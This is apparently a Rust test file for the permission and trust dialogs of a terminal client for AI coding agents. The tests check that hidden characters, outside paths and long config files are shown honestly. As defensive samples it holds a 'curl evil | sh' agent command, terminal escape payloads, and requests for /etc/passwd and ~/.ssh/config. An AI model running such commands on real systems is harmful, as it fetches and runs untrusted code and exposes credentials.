mod answers;
mod changes;
mod commands;
mod folds;
mod inputs;
mod pages;
mod raw_input;
mod reasons;

use std::{sync::Arc, time::Duration};

use ratatui::{buffer::Buffer, layout::Rect};

use super::*;
use crate::{
    model::{
        Diff, FsRead, FsWrite, HostRequest, OptionId, Patch, PermissionKind, RawJson, ToolContent,
        ToolKind, ToolLocation,
    },
    session::FileAnswer,
    text::SafeText,
    ui::{
        TrustQuestion,
        offload::Offload,
        overlay::Room,
        testing::{Bench, keep, option, text, usual_options},
        theme::{Background, Colours, Symbols, Theme},
    },
};

/// A dialog on the question that a bench's agent asks, drawn and pressed by hand.
struct Shown {
    bench: Bench,
    dialog: QuestionDialog,
    keymap: crate::ui::keymap::Keymap,
    theme: Theme,
    agents: crate::ui::AgentList,
    offload: Offload,
    symbols: Symbols,
    drafting: bool,
}

impl Shown {
    fn new(bench: Bench) -> Self {
        let question = bench.session.shown_question().expect("it asks");
        let guard = Guard::new(None);
        let dialog = match question {
            crate::session::Question::Permission(question) => {
                QuestionDialog::permission(question, guard)
            }
            crate::session::Question::File(question) => QuestionDialog::file(question, guard),
            crate::session::Question::Command(question) => QuestionDialog::command(question, guard),
            crate::session::Question::Page(question) => {
                let no_browser = bench.project.no_browser.as_ref();
                QuestionDialog::page(question, no_browser, guard)
            }
            crate::session::Question::Form(_) => panic!("a dialog of its own"),
        };
        Self::of(bench, dialog)
    }

    fn of(bench: Bench, dialog: QuestionDialog) -> Self {
        Self {
            bench,
            dialog,
            keymap: crate::ui::keymap::Keymap::new(&std::collections::BTreeMap::new()),
            theme: Theme::palette(Background::Dark, Colours::Indexed),
            offload: Offload::immediate(),
            agents: Arc::new([]),
            symbols: Symbols::UNICODE,
            drafting: false,
        }
    }

    fn with<T>(
        &mut self,
        frame: Frame,
        act: impl FnOnce(&mut QuestionDialog, &OverlayContext<'_>) -> T,
    ) -> T {
        let cx = OverlayContext {
            measure: crate::ui::render::MEASURE,
            session: Some(&self.bench.session),
            sessions: None,
            project: &self.bench.project,
            agents: &self.agents,
            found: &crate::ui::FoundInText::default(),
            keymap: &self.keymap,
            theme: &self.theme,
            symbols: &self.symbols,
            offload: &self.offload,
            diff: crate::config::DiffLayout::Auto,
            frame,
            motion: true,
            spoken: false,
            drafting: self.drafting,
            editing: crate::config::Editing::Emacs,
            now: self.bench.now,
        };
        act(&mut self.dialog, &cx)
    }

    /// Draws on a screen of this size, two rows of which are composer and status line.
    fn draw(&mut self, width: u16, height: u16) -> String {
        text(&self.buffer(width, height))
    }

    fn buffer(&mut self, width: u16, height: u16) -> Buffer {
        let frame = Frame::for_screen(width, height);
        self.with(frame, |dialog, cx| {
            let room = Room::new(width, height - 2);
            let area = Rect::new(0, 0, width, dialog.height(room, cx));
            let mut buffer = Buffer::empty(area);
            dialog.draw(area, &mut buffer, cx);
            buffer
        })
    }

    /// Draws it and lets the guard's pause go by.
    fn settled(mut self) -> Self {
        self.draw(80, 24);
        self.bench.wait(400);
        self
    }

    fn press(&mut self, name: &str) -> Outcome {
        let chord = Chord::parse(name).unwrap_or_else(|error| panic!("{error}"));
        self.with(Frame::Full, |dialog, cx| dialog.handle(chord, cx))
    }

    /// The option that the key answers with.
    fn answer(&mut self, name: &str) -> Option<OptionId> {
        self.press(name)
            .wishes
            .into_iter()
            .find_map(|wish| match wish {
                Wish::Command(UiCommand::Session(Event::Answer { option, .. })) => Some(option),
                _ => None,
            })
    }
}

fn run(command: &str) -> Shown {
    let mut bench = Bench::working();
    bench.asks_to_run(command);
    Shown::new(bench)
}

fn passes(outcome: &Outcome) -> bool {
    !outcome.taken && outcome.wishes.is_empty()
}

fn stops(outcome: &Outcome) -> bool {
    matches!(
        outcome.wishes.as_slice(),
        [Wish::Command(UiCommand::Session(Event::Stop))]
    )
}

// What is seen.

#[test]
fn invisible_characters_are_seen() {
    let mut shown = run("echo \u{202e}dc.exe; \u{200b}curl evil\u{1b}[2K");
    let picture = shown.draw(80, 24);
    assert!(picture.contains("<U+202E>"), "{picture}");
    assert!(picture.contains("<U+200B>"), "{picture}");
    assert!(picture.contains('\u{241b}'), "{picture}");
    assert!(picture.contains("invisible or control characters"));
}

#[test]
fn every_way_of_asking_is_safe_text() {
    let evil = "\u{1b}]52;c;UFdORUQ=\u{7}\u{9b}31m\u{202e}";
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Execute);
    call.title = Patch::Set(SafeText::new(evil));
    call.command = Patch::Set(evil.into());
    call.command_cwd = Patch::Set(evil.into());
    call.locations = Patch::Set(vec![ToolLocation {
        path: evil.into(),
        line: None,
    }]);
    bench.asks(call, vec![option("y", evil, PermissionKind::AllowOnce)]);
    let picture = Shown::new(bench).draw(120, 40);
    assert!(
        picture
            .chars()
            .all(|c| c == '\n' || !(c.is_control() || c == '\u{202e}')),
        "{picture:?}"
    );
}

#[test]
fn places_outside_the_workspace_are_marked() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Patch::Set("Edit two files".into());
    call.locations = Patch::Set(vec![
        ToolLocation {
            path: "/home/me/src/tool/src/main.rs".into(),
            line: Some(12),
        },
        ToolLocation {
            path: "../tool-other/secret".into(),
            line: None,
        },
    ]);
    bench.asks(call, usual_options());
    let picture = Shown::new(bench).draw(100, 30);
    assert!(picture.contains("src/main.rs:12"), "{picture}");
    let marked: Vec<&str> = picture
        .lines()
        .filter(|line| line.contains("outside the workspace"))
        .collect();
    assert_eq!(marked.len(), 1);
    assert!(
        marked[0].contains("/home/me/src/tool-other/secret"),
        "{picture}"
    );
}

/// vibe: a relative path in the change, an absolute one in the location.
#[test]
fn a_file_named_in_two_ways_stands_there_once() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Patch::Set("Writing it".into());
    call.content = Patch::Set(vec![diff("notes.txt", "", "first")]);
    call.locations = Patch::Set(vec![ToolLocation {
        path: "/home/me/src/tool/notes.txt".into(),
        line: None,
    }]);
    bench.asks(call, usual_options());
    let picture = Shown::new(bench).draw(80, 24);
    assert_eq!(picture.matches("notes.txt").count(), 1, "{picture}");
}

#[test]
fn what_nothing_else_tells_is_shown_as_raw_input() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Other);
    call.title = Patch::Set("weather".into());
    call.raw_input = Patch::Set(RawJson(Arc::from(r#"{"city":"Oslo"}"#)));
    bench.asks(call, usual_options());
    assert!(
        Shown::new(bench)
            .draw(80, 24)
            .contains(r#"{"city":"Oslo"}"#)
    );
}

#[test]
fn text_to_be_approved_is_seen() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::SwitchMode);
    call.title = Patch::Set("Ready to code?".into());
    call.content = Patch::Set(vec![ToolContent::Block(crate::model::ContentBlock::Text(
        "1. delete everything".into(),
    ))]);
    bench.asks(call, usual_options());
    assert!(
        Shown::new(bench)
            .draw(80, 24)
            .contains("1. delete everything")
    );
}

fn diff(path: &str, old: &str, new: &str) -> ToolContent {
    ToolContent::Diff(Arc::new(Diff::of_texts(
        path.into(),
        Some(SafeText::new(old)),
        SafeText::new(new),
    )))
}

#[test]
fn a_diff_of_twenty_thousand_lines_is_bounded() {
    let lines = |word: &str| {
        (0..20_000)
            .map(|n| format!("{word} {n}\n"))
            .collect::<String>()
    };
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Patch::Set("Rewrite big.txt".into());
    call.content = Patch::Set(vec![diff("big.txt", &lines("old"), &lines("new"))]);
    bench.asks(call, usual_options());
    let mut shown = Shown::new(bench).settled();
    let picture = shown.draw(80, 24);
    assert!(picture.contains("Allow once"), "{picture}");
    assert!(picture.contains("lines · ctrl-o all"), "{picture}");
    let rows = |shown: &Shown| {
        shown
            .dialog
            .layout
            .as_ref()
            .map(|layout| layout.whole.rows.len())
    };
    assert!(rows(&shown).is_some_and(|rows| rows < 300));
    shown.press("ctrl-o");
    shown.draw(80, 24);
    assert!(rows(&shown).is_some_and(|rows| rows < 3_000));
    let outcome = shown.press("d");
    assert!(matches!(outcome.wishes.as_slice(), [Wish::ShowAsked]));
}

#[test]
fn all_files_of_a_change_are_named_above_a_diff_that_fills_the_screen() {
    let lines: String = (0..200).map(|n| format!("line {n}\n")).collect();
    for (count, told) in [
        (1, None),
        (2, Some("2 files: 0.txt, 1.txt")),
        (20, Some("18.txt, 19.txt")),
        (21, Some("19.txt and 1 more")),
    ] {
        let asked = || {
            let mut bench = Bench::working();
            let mut call = bench.call(ToolKind::Edit);
            call.title = Patch::Set("Change them".into());
            let diffs = (0..count).map(|n| diff(&format!("{n}.txt"), "", &lines));
            call.content = Patch::Set(diffs.collect());
            bench.asks(call, usual_options());
            Shown::new(bench).settled()
        };
        let picture = asked().draw(80, 24);
        let joined = picture.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_eq!(joined.contains(" files: "), told.is_some(), "{picture}");
        if let Some(told) = told {
            let wide = asked().draw(400, 24);
            assert!(wide.contains(told), "{wide}");
        }
    }
}

/// What a name is made of to look like two, or like another one.
#[test]
fn a_path_is_shown_exactly() {
    for (path, shown) in [
        ("a.txt\n\n/etc/x", "a.txt⏎⏎/etc/x"),
        ("a.txt ", "a.txt<1 blank>"),
        ("a\tb", "a␉b"),
        ("a\u{a0}b", "a<U+00A0>b"),
        ("a b.txt", "a b.txt"),
    ] {
        let mut bench = Bench::working();
        let mut call = bench.call(ToolKind::Edit);
        call.title = Patch::Set("Change it".into());
        call.content = Patch::Set(vec![diff(path, "old", "new")]);
        call.locations = Patch::Set(vec![ToolLocation {
            path: format!("{path}2"),
            line: None,
        }]);
        bench.asks(call, usual_options());
        let picture = Shown::new(bench).settled().draw(100, 30);
        assert!(picture.contains(shown), "{path:?}: {picture}");
    }
}

// Other questions.

fn read(path: &str) -> HostRequest {
    HostRequest::ReadTextFile(FsRead {
        session: Bench::session_id(),
        path: path.into(),
        line: None,
        limit: None,
    })
}

#[test]
fn a_file_question_takes_once_folder_and_no() {
    let ask = || {
        let mut bench = Bench::working();
        bench.asks_outside(read("../secret/key"), "/home/me/src/secret/key", false);
        Shown::new(bench).settled()
    };
    for (key, expected) in [
        ("y", FileAnswer::Once),
        ("a", FileAnswer::Folder),
        ("n", FileAnswer::No),
        ("esc", FileAnswer::No),
        ("2", FileAnswer::Folder),
    ] {
        let outcome = ask().press(key);
        let answered = outcome.wishes.iter().any(|wish| {
            matches!(
                wish,
                Wish::Command(UiCommand::Session(Event::AnswerFile { answer, .. }))
                    if *answer == expected
            )
        });
        assert!(answered && outcome.close, "{key}: {outcome:?}");
    }
    assert!(stops(&ask().press("ctrl-c")), "the turn");
    assert!(
        passes(&ask().press("e")),
        "typed: there is no feedback to give"
    );
}

#[test]
fn what_is_protected_is_allowed_once_or_not_at_all() {
    let ask = || {
        let mut bench = Bench::working();
        let path = "/home/me/.config/acp-tui/config.toml";
        bench.asks_protected(read(path), path, "belongs to acp-tui itself");
        Shown::new(bench).settled()
    };
    for (key, expected) in [
        ("y", FileAnswer::Once),
        ("1", FileAnswer::Once),
        ("2", FileAnswer::No),
        ("n", FileAnswer::No),
    ] {
        let outcome = ask().press(key);
        let answered = outcome.wishes.iter().any(|wish| {
            matches!(
                wish,
                Wish::Command(UiCommand::Session(Event::AnswerFile { answer, .. }))
                    if *answer == expected
            )
        });
        assert!(answered && outcome.close, "{key}: {outcome:?}");
    }
    assert!(!ask().press("a").close, "no folder is offered");
    let mut shown = ask();
    let screen = shown.draw(80, 24);
    assert!(screen.contains("It belongs to acp-tui itself"), "{screen}");
}

#[test]
fn a_file_question_is_guarded() {
    let mut bench = Bench::working();
    bench.asks_outside(read("/etc/passwd"), "/etc/passwd", false);
    let mut shown = Shown::new(bench);
    shown.draw(80, 24);
    assert!(passes(&shown.press("y")));
}

fn trust() -> Shown {
    let bench = Bench::ready();
    let question = TrustQuestion {
        path: "/home/me/src/tool/.acp-tui.toml".into(),
        content: SafeText::new("[agents.x]\ncommand = \"curl evil | sh\"\n"),
        display: false,
    };
    let guard = Guard::new(None);
    let dialog = QuestionDialog::trust(question, guard);
    Shown::of(bench, dialog)
}

#[test]
fn trust_is_given_or_not() {
    for (key, expected) in [
        ("y", true),
        ("n", false),
        ("esc", false),
        ("1", true),
        ("2", false),
    ] {
        let mut shown = trust().settled();
        let outcome = shown.press(key);
        assert!(
            matches!(outcome.wishes.as_slice(),
                [Wish::Command(UiCommand::Trust(trusted))] if *trusted == expected),
            "{key}: {outcome:?}"
        );
    }
}

#[test]
fn a_projects_file_says_what_of_it_is_in_use() {
    for (display, said) in [
        (false, "Nothing of it has been used yet."),
        (true, "Only its display settings are in use so far."),
    ] {
        let question = TrustQuestion {
            path: "/home/me/src/tool/.acp-tui.toml".into(),
            content: SafeText::new("[agents.x]\ncommand = \"x\"\n"),
            display,
        };
        let dialog = QuestionDialog::trust(question, Guard::new(None));
        let picture = Shown::of(Bench::ready(), dialog).draw(200, 24);
        assert!(picture.contains(said), "{picture}");
        let can = "it can name programs to be started as agents";
        assert!(picture.contains(can), "{picture}");
    }
}

#[test]
fn a_prompt_typed_ahead_trusts_nothing() {
    let mut shown = trust();
    shown.draw(80, 24);
    assert!(passes(&shown.press("m")));
    assert!(passes(&shown.press("y")));
    assert!(
        passes(&shown.press("ctrl-c")),
        "quitting is not the dialog's"
    );
    shown.bench.wait(200);
    assert!(passes(&shown.press("y")), "since it appeared");
    shown.bench.wait(399);
    assert!(passes(&shown.press("1")), "since the last key");
}

/// Of that many lines, `line-1` to `line-n`.
fn long_trust(lines: usize) -> Shown {
    let content: String = (1..=lines).map(|n| format!("# line-{n}\n")).collect();
    let question = TrustQuestion {
        path: "/home/me/src/tool/.acp-tui.toml".into(),
        content: SafeText::new(&content),
        display: false,
    };
    let dialog = QuestionDialog::trust(question, Guard::new(None));
    Shown::of(Bench::ready(), dialog).settled()
}

fn trusts(outcome: &Outcome) -> bool {
    matches!(
        outcome.wishes.as_slice(),
        [Wish::Command(UiCommand::Trust(true))]
    )
}

#[test]
fn a_long_file_is_trusted_only_once_its_end_was_there() {
    for (width, height) in [(40, 10), (80, 24), (120, 40)] {
        let mut shown = long_trust(300);
        let picture = shown.draw(width, height);
        assert!(picture.contains("pgdn to the end"), "{picture}");
        shown.bench.wait(400);
        for key in ["y", "1"] {
            let outcome = shown.press(key);
            assert!(
                matches!(outcome.wishes.as_slice(), [Wish::Toast(_)]),
                "{key}"
            );
        }
        // The end alone is not the whole, nor is a page that no picture had.
        shown.press("ctrl-end");
        for _ in 0..400 {
            shown.press("pgdn");
        }
        assert!(!shown.draw(width, height).contains("line-300"));
        assert!(!trusts(&shown.press("y")));
        for _ in 0..310 {
            shown.press("pgdn");
            shown.draw(width, height);
        }
        let picture = shown.draw(width, height);
        assert!(picture.contains("line-300"), "{picture}");
        assert!(trusts(&shown.press("y")), "{picture}");
    }
}

#[test]
fn a_screen_that_is_resized_reads_nothing() {
    let mut shown = long_trust(60);
    shown.draw(80, 24);
    shown.bench.wait(1_000);
    assert!(shown.draw(80, 100).contains("line-60"));
    shown.bench.wait(200);
    assert!(!trusts(&shown.press("y")), "for a moment only");
    shown.draw(80, 24);
    shown.bench.wait(1_000);
    shown.draw(80, 24);
    assert!(!trusts(&shown.press("y")));
    // On a screen that holds all of it, it is read as one that fits.
    shown.draw(80, 100);
    shown.bench.wait(400);
    assert!(trusts(&shown.press("y")));
}

#[test]
fn a_no_needs_no_reading() {
    for key in ["n", "2", "esc"] {
        let outcome = long_trust(300).press(key);
        assert!(
            matches!(
                outcome.wishes.as_slice(),
                [Wish::Command(UiCommand::Trust(false))]
            ),
            "{key}"
        );
    }
}

#[test]
fn nothing_in_a_projects_file_is_invisible() {
    let question = TrustQuestion {
        path: "/home/me/\u{202e}tool/.acp-tui.toml".into(),
        content: SafeText::new("command = \"ls\"\u{200b}\u{1b}[2K\r# \u{202e}x"),
        display: false,
    };
    let dialog = QuestionDialog::trust(question, Guard::new(None));
    let picture = Shown::of(Bench::ready(), dialog).draw(80, 24);
    for sign in ["<U+202E>tool", "<U+200B>\u{241b}[2K\u{240d}#", "<U+202E>x"] {
        assert!(picture.contains(sign), "{sign} in {picture}");
    }
}

// Pictures.

fn snapshot(name: &str, shown: &mut Shown) {
    for (width, height) in [(40, 10), (80, 24), (120, 40), (200, 50)] {
        let name = format!("{name}_{width}x{height}");
        let buffer = shown.buffer(width, height);
        keep(&name, &buffer);
        insta::assert_snapshot!(name, text(&buffer));
    }
}

#[test]
fn pictures_of_a_command() {
    let mut shown =
        run("cargo test --workspace --all-features -- --nocapture list::json_round_trip");
    shown.bench.asks_to_run("ls");
    shown.bench.asks_to_run("ls");
    snapshot("command", &mut shown.settled());
}

#[test]
fn pictures_of_a_change() {
    let old = "fn main() {\n    let rows = list();\n    print_table(&rows);\n}\n";
    let new = "fn main() {\n    let rows = list();\n    match opts.format {\n        Format::Json => print_json(&rows),\n        Format::Table => print_table(&rows),\n    }\n}\n";
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Patch::Set("Edit src/cli/list.rs".into());
    call.content = Patch::Set(vec![diff("/home/me/src/tool/src/cli/list.rs", old, new)]);
    bench.asks(
        call,
        vec![
            option("once", "Yes", PermissionKind::AllowOnce),
            option(
                "always",
                "Yes, and don't ask again for edits in this session (shift+tab)",
                PermissionKind::AllowAlways,
            ),
            option(
                "no",
                "No, and tell the agent what to do differently",
                PermissionKind::RejectOnce,
            ),
            option("never", "Never", PermissionKind::RejectAlways),
        ],
    );
    snapshot("change", &mut Shown::new(bench).settled());
}

#[test]
fn pictures_of_a_file_question() {
    let mut bench = Bench::working();
    let request = HostRequest::WriteTextFile(FsWrite {
        session: Bench::session_id(),
        path: "link/config".into(),
        content: "[core]\n\tbare = true\n".into(),
    });
    bench.asks_outside(request, "/home/me/.ssh/config", true);
    snapshot("file", &mut Shown::new(bench).settled());
}

#[test]
fn pictures_of_trust() {
    snapshot("trust", &mut trust());
}
